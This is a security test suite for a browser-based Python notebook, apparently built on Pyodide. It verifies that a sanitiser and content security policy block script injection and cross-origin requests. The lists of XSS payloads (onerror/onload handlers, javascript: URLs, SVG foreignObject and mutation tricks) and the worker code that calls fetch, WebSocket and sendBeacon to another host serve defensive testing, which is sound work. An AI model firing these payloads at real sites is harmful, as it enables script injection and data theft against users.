"""Nothing that a program prints, returns or sends, or an address holds, runs script in the page.

Each attack below would set `window.caught`, open a dialog or reach another origin, if it got through.
"""

import http.server
import threading
from urllib.parse import quote

import pytest
from playwright.sync_api import expect

TRAP = "(window.caught = 1, parent.caught = 1, alert(1))"
NAMESPACES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
SVG = f'<svg {NAMESPACES} viewBox="0 0 9 9">{{}}</svg>'

PICTURES = [
    f"<script>{TRAP}</script>",
    f'<script href="data:text/javascript,{TRAP}"/>',
    f"<g onload='{TRAP}'/>",
    f'<circle r="4" onclick="{TRAP}" onmouseover="{TRAP}" onfocus="{TRAP}" tabindex="0"/>',
    f'<a href="javascript:{TRAP}"><circle r="4"/></a>',
    f'<a xlink:href="javascript:{TRAP}"><circle r="4"/></a>',
    f"<image href='x' onerror='{TRAP}'/>",
    '<image href="OTHER/picture.png"/>',
    '<use href="OTHER/sprite.svg#a"/>',
    f'<use href="data:image/svg+xml,<svg id=a onload={TRAP}>#a"/>',
    f"<foreignObject><body onload='{TRAP}' xmlns='http://www.w3.org/1999/xhtml'/></foreignObject>",
    "<foreignObject><iframe src='OTHER/frame'/></foreignObject>",
    f"<foreignObject><img src=x onerror='{TRAP}'/></foreignObject>",
    "<style>@import 'OTHER/style.css'; body { background: url(OTHER/paper.png) }</style>",
    "<rect width='9' height='9' style='fill: url(OTHER/fill.svg#a)'/>",
    "<rect width='9' height='9' fill='url(OTHER/fill.svg#a)' filter='url(OTHER/filter.svg#a)'/>",
    f"<animate attributeName='href' values='javascript:{TRAP}' onbegin='{TRAP}'/>",
    f"<set attributeName='onload' to='{TRAP}' onend='{TRAP}'/>",
    f"<handler type='text/javascript'>{TRAP}</handler>",
    f"<title></title><desc><img src=x onerror='{TRAP}'></desc>",
    f"<svg onload='{TRAP}'><svg onload='{TRAP}'/></svg>",
    f"</svg><img src=x onerror='{TRAP}'><svg>",
    f"<math><mtext><mglyph><style><img src=x onerror='{TRAP}'></style></mglyph></mtext></math>",
    f"<![CDATA[<img src=x onerror='{TRAP}'>]]>",
    f"<form id='document'><input name='body'></form><script>{TRAP}</script>",
]
TEXTS = [
    f"<script>{TRAP}</script>",
    f"<img src=x onerror='{TRAP}'>",
    f"</code></pre><svg onload='{TRAP}'></svg>",
    f"</textarea><iframe srcdoc='<script>{TRAP}</script>'></iframe>",
    f"javascript:{TRAP}",
    f"&lt;img src=x onerror={TRAP}&gt;",
    "\u202e\u0000\u001b[31m\ufeff<b>",
]
# In the worker: `js` is its global scope, which a program may use as it likes.
SCRIPTS = [
    "import js; js.eval('self.postMessage({type: 1})')",
    "import js; js.Function.new('return 1')()",
    "import js; js.importScripts('OTHER/script.js')",
    "import js; x = js.XMLHttpRequest.new(); x.open('GET', 'OTHER/data', False); x.send()",
    "import js; js.fetch('OTHER/data')",
    "import js; js.WebSocket.new('ws://OTHER_HOST/socket')",
    "import js; js.EventSource.new('OTHER/events')",
    "import js; js.Worker.new('OTHER/worker.js')",
    "from pyodide.http import open_url; open_url('OTHER/data')",
    "import urllib.request; urllib.request.urlopen('OTHER/data')",
    "import js; js.navigator.sendBeacon('OTHER/beacon', 'x')",
    "import js; js.document.body.innerHTML = 'x'",
    "import js; js.window.caught = 1",
]
FRAGMENTS = [
    f"#<img src=x onerror={TRAP}>",
    f"#javascript:{TRAP}",
    f"#'><script>{TRAP}</script>",
    "#__proto__",
    "#[data-cr-program]",
    "#%00%ff",
    f"?q=<img src=x onerror={TRAP}>",
    f"?h=<img src=x onerror={TRAP}>",
    f"?q=</script><script>{TRAP}</script>",
    f"?h=%22%3E%3Csvg%20onload={TRAP}%3E",
]


@pytest.fixture(scope="module")
def other_origin():
    """Another host, and what it was asked for."""
    asked = []

    class Answer(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *args):
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Answer) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"127.0.0.1:{server.server_port}", asked
        server.shutdown()


class Attacked:
    """A page whose first program is an attacker's; `caught` says what got through."""

    def __init__(self, opened, other):
        self.page, (self.host, self.asked) = opened.page, other
        self.dialogs = []
        self.page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))
        self.cell = self.page.locator(".cr-cell-live").first
        self.cell.locator(".cr-edit").click()
        self.editor = self.cell.locator(".cm-content")
        self.home = self.page.url

    def run(self, code):
        code = code.replace("OTHER_HOST", self.host).replace("OTHER", f"http://{self.host}")
        self.editor.focus()
        self.page.keyboard.press("Control+a")
        self.page.keyboard.insert_text(code)
        self.page.keyboard.press("Control+Enter")
        status = self.cell.locator(".cr-status[data-kind], .cr-status:not(:empty)")
        expect(self.cell).not_to_have_attribute("data-busy", "")
        expect(status).not_to_have_text("Running…")

    def caught(self):
        found = self.page.evaluate(
            """() => ({
              set: window.caught ?? null,
              elements: [...document.querySelectorAll(
                ".cr-cell-live :is(script, iframe, img, image, use, foreignObject, style, a, object, embed)")]
                .filter((element) => !element.closest(".highlight")).map((element) => element.outerHTML),
              handlers: [...document.querySelectorAll(".cr-live *")].flatMap((element) =>
                element.getAttributeNames().filter((name) => name.startsWith("on"))),
            })"""
        )
        assert self.page.url.partition("#")[0] == self.home  # what follows is the heading in view
        return found | {"dialogs": self.dialogs, "asked": self.asked}


NOTHING = {"set": None, "elements": [], "handlers": [], "dialogs": [], "asked": []}


@pytest.fixture(scope="module")
def attacked(chromium, address, other_origin):
    """One page for all attacks: what one leaves behind would show in the next."""
    context = chromium.new_context()
    page = context.new_page()
    page.goto(address)
    if "missing" in page.evaluate("fetch('assets/live/runtime.json').then((answer) => answer.json())"):
        pytest.skip("the runtime could not be had (python -m plugins.pyodide says why)")
    yield Attacked(type("Opened", (), {"page": page}), other_origin)
    context.close()


@pytest.mark.parametrize("inside", PICTURES)
def test_a_returned_picture_is_shown_without_what_could_do_harm(attacked, inside):
    attacked.run(repr(SVG.format(inside)))
    expect(attacked.cell.locator(".cr-picture svg").first).to_be_attached()
    assert attacked.caught() == NOTHING


@pytest.mark.parametrize("text", TEXTS)
@pytest.mark.parametrize(
    "program", ["print({!r})", "raise ValueError({!r})", "import sys; sys.stderr.write({!r})"]
)
def test_text_stays_text(attacked, program, text):
    attacked.run(program.format(text))
    if "\0" not in text:
        expect(attacked.cell.locator(".cr-live")).to_contain_text(text)
    assert attacked.caught() == NOTHING


@pytest.mark.parametrize("code", SCRIPTS)
def test_a_program_reaches_neither_the_page_nor_another_origin(attacked, code):
    attacked.run(code)
    attacked.run("print('still here')")
    expect(attacked.cell.locator(".cr-live")).to_contain_text("still here")
    assert attacked.caught() == NOTHING


@pytest.mark.parametrize(
    "message",
    [
        {"type": "done", "error": {"text": "x"}, "line": "1", "ms": "soon", "picture": 7},
        {"type": "done", "picture": f"<svg><script>{TRAP}</script></svg>"},
        {"type": "output", "text": {"toString": 1}, "cut": "yes"},
        {"type": "progress", "loaded": "<b>"},
        {"type": "failed", "reason": f"<img src=x onerror='{TRAP}'>"},
        {"type": "__proto__"},
        [],
        None,
    ],
)
def test_a_message_in_the_worker_s_name_is_no_more_than_text_and_numbers(attacked, message):
    attacked.run(
        f"import js\nfrom pyodide.ffi import to_js as to\n"
        f"js.postMessage(to({message!r}, dict_converter=js.Object.fromEntries))"
    )
    attacked.run("print('still here')")
    expect(attacked.cell.locator(".cr-live")).to_contain_text("still here")
    assert attacked.caught() == NOTHING


def test_the_traps_would_be_seen(chromium, address, other_origin):
    """Without the policy and the sanitiser the same attacks do get through."""
    host, asked = other_origin
    context = chromium.new_context(bypass_csp=True)
    page = context.new_page()
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.goto(address)
    page.evaluate("(html) => (document.body.innerHTML = html)", f"<img src=x onerror='{TRAP}'>")
    page.evaluate("(url) => fetch(url)", f"http://{host}/seen")
    expect(page.locator("img")).to_be_attached()
    assert page.evaluate("window.caught") == 1
    assert dialogs == ["1"]
    assert asked == ["/seen"]
    asked.clear()
    context.close()


def test_the_page_itself_reaches_no_other_origin(tab, other_origin):
    host, asked = other_origin
    page = tab().page
    for request in ["fetch({!r})", "new Image().src = {!r}", "navigator.sendBeacon({!r})"]:
        page.evaluate(f"() => {{ try {{ {request.format(f'http://{host}/x')} }} catch {{}} }}")
    page.evaluate(
        "(src) => document.body.append(Object.assign(document.createElement('script'), { src }))",
        f"http://{host}/s",
    )
    page.wait_for_timeout(300)
    assert asked == []


@pytest.mark.parametrize("end", FRAGMENTS)
def test_an_address_holds_nothing_that_runs(tab, end):
    opened = tab("convolution/sliding_dot_products/" + quote(end, safe="#?=%&'()[]"))
    dialogs = []
    opened.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    opened.page.wait_for_timeout(200)
    assert (opened.page.evaluate("window.caught ?? null"), dialogs) == (None, [])


def test_what_lies_in_storage_is_text_and_numbers(tab):
    opened = tab("convolution/sliding_dot_products/")
    for record in ['{"tries": "<b>", "right": 1, "code": {}}', f"<img src=x onerror='{TRAP}'>", "null", "7"]:
        opened.page.evaluate(
            "(record) => localStorage.setItem('convolve-recur:sliding_dot_products:missing_cell', record)",
            record,
        )
        opened.page.reload()
        expect(opened.page.locator(".cr-summary")).to_contain_text("0 of 4")
        assert opened.page.evaluate("window.caught ?? null") is None
    assert not opened.problems
